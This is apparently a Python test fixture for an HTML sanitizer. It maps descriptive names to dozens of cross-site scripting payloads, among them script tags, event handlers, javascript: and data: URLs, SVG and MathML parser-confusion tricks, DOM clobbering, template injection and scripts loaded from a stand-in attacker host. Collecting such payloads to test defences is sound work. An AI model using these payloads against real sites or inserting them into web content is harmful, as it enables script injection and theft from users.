"""HTML that tries to run something."""

from tests.desk.hostile.marks import EVIL, RUN

SCRIPTS: dict[str, str] = {
    "a script": f"<p>kept</p><script>{RUN}</script>",
    "a script from elsewhere": f"<p>kept</p><script src=https://{EVIL}/x.js></script>",
    "a script in pieces": f"<p>kept</p><scr<script>ipt>{RUN}</scr</script>ipt>",
    "a script in capitals with a slash": f"<p>kept</p><ScRiPt/x>{RUN}</sCrIpT >",
    "a script that a null splits": f"<p>kept</p><scr\0ipt>{RUN}</scr\0ipt><script\0>{RUN}</script>",
    "a module": f"<p>kept</p><script type=module>import 'https://{EVIL}/m.js';{RUN}</script>",
    "a picture that fails": f'<p>kept</p><img src=x onerror="{RUN}">',
    "a picture that fails, with slashes": f'<p>kept</p><img/src="x"/onerror={RUN}>',
    "handlers of all kinds": "<p>kept</p>"
    + "".join(
        f'<{tag} {handler}="{RUN}" tabindex=1 autofocus style="animation:a 1ms">'
        for tag in ("div", "b", "table", "details open", "marquee", "a href=#", "font")
        for handler in ("onload", "onfocus", "ontoggle", "onstart", "onanimationend", "onclick")
    ),
    "a body that loads": f'<body onload="{RUN}" onpageshow="{RUN}"><p>kept</p>',
    "a handler after odd signs": f'<p>kept</p><img src="x"\x0conerror\x0b="{RUN}" ONERROR\t=\n"{RUN}">',
    "a quote that ends an attribute": f'<p>kept</p><img alt="`><img src=x onerror={RUN}>" src=x>',
    "a video that fails": f'<p>kept</p><video><source onerror="{RUN}"></video><audio src=x onerror="{RUN}">',
    "svg that loads": f'<p>kept</p><svg onload="{RUN}"><animate onbegin="{RUN}" attributeName=x>',
    "svg with a script": f"<p>kept</p><svg><script>{RUN}</script><script href=https://{EVIL}/s.js />",
    "svg that uses another": "<p>kept</p><svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='h"
    f"ttp://www.w3.org/2000/svg'><image href='1' onerror='{RUN}'/></svg>#x\"/></svg>",
    "svg that brings HTML": f'<p>kept</p><svg><foreignObject><img src=x onerror="{RUN}">',
    "math that is clicked": f'<p>kept</p><math><a xlink:href="javascript:{RUN}">x</a></math>',
    "math with a style": "<p>kept</p><math><mtext><table><mglyph><style><!--</style>"
    f'<img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">',
    "svg with a title": f'<p>kept</p><svg></p><title><a id="</title><img src=1 onerror={RUN}>">',
    "svg with a style": f'<p>kept</p><svg><style><a id="</style><img src=1 onerror={RUN}>"></style>',
    "noscript": f'<p>kept</p><noscript><p title="</noscript><img src=x onerror={RUN}>">',
    "a template": f"<p>kept</p><template><script>{RUN}</script></template>"
    f'<template shadowrootmode=open><img src=x onerror="{RUN}"></template>',
    "a comment that ends otherwise": f'<p>kept</p><!--><img src=x onerror="{RUN}">-->'
    f'<!--a--!><img src=x onerror="{RUN}"><![CDATA[><img src=x onerror={RUN}>]]>',
    "a form in a form in math": "<p>kept</p><form><math><mtext></form><form><mglyph><style></math>"
    f'<img src onerror="{RUN}">',
    "text that is raw elsewhere": f'<p>kept</p><xmp><p title="</xmp><img src=x onerror={RUN}>"></xmp>'
    f'<noembed><img src="</noembed><img src=x onerror={RUN}>"></noembed>'
    f'<textarea><img title="</textarea><img src=x onerror={RUN}>"></textarea>'
    f"<select><style></select><img src=x onerror={RUN}></style></select>",
    "formatting around tables": "<p>kept</p>"
    + "<a><table><td>" * 8
    + f'<b><style></b><img src=x onerror="{RUN}"></style>',
    "a frame that ends": f"<p>kept</p></iframe></body></html><script>{RUN}</script>"
    f'<img src=x onerror="{RUN}">',
    "a frame's attribute that ends": f"<p>kept</p>\"></iframe>'></iframe><script>{RUN}</script>",
    "a frame": f'<p>kept</p><iframe src="javascript:{RUN}"></iframe><frame src="javascript:{RUN}">',
    "a frame's own document": f'<p>kept</p><iframe srcdoc="&lt;script&gt;{RUN}&lt;/script&gt;"></iframe>',
    "a frame of data": f'<p>kept</p><iframe src="data:text/html,<script>{RUN}</script>"></iframe>',
    "objects": f'<p>kept</p><object data="javascript:{RUN}"></object><embed src="javascript:{RUN}">'
    f'<object data="data:text/html,<script>{RUN}</script>"></object><applet code="x">',
    "a page in an address": f'<p>kept</p><a href="data:text/html,<script>{RUN}</script>">x</a>'
    f"<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='1'/>\">",
    "scripts as addresses": "<p>kept</p>"
    + "".join(
        f'<a href="{address}{RUN}">x</a><img src="{address}{RUN}"><table background="{address}1">'
        f'<td background="{address}1"><form action="{address}1"><button formaction="{address}1">'
        f'<input type=image src="{address}1"><q cite="{address}1"><base href="{address}1">'
        for address in (
            "javascript:",
            "JaVaScRiPt:",
            " \x01javascript:",
            "java\tscript:",
            "java\nscript:",
            "java&#x0A;script:",
            "&#106;avascript&colon;",
            "&#0000106avascript:",
            "javascript&Tab;:",
            "vbscript:",
            "view-source:javascript:",
            "feed:javascript:",
            "blob:null/",
            "filesystem:",
        )
    ),
    "templates of programs": "<p>kept {{7*7}} {% raw %} ${7*7} #{7*7} <%= 7*7 %> {{constructor"
    ".constructor('top.postMessage(`ran`,`*`)')()}}</p><div ng-app v-html=x x-data=y hx-get=/x>",
    "styles that were scripts": f'<p style="width:expression({RUN});behavior:url(#default#x);'
    f'-moz-binding:url(x.xml#y)">kept</p><style>p{{background:url(javascript:1)}}</style>',
    "a link that opens its opener": f'<p>kept</p><a href="https://{EVIL}/" target=_top rel=opener>x</a>'
    f'<area href="javascript:{RUN}"><map name=m><area shape=rect coords=0,0,9,9 href=//{EVIL}></map>',
    "names of the page's own things": "<p>kept</p><img name=body><form id=forms><input name=x>"
    '</form><a id=defaultView><a id=top name=postMessage href="https://evil.example/clobber">',
    "processing instructions": f"<p>kept</p><?xml-stylesheet href='javascript:{RUN}'?><?php {RUN} ?>"
    f"<!DOCTYPE x [<!ENTITY y SYSTEM 'https://{EVIL}/y'>]>&y;",
    "broken UTF-7": f"<p>kept</p>+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
}
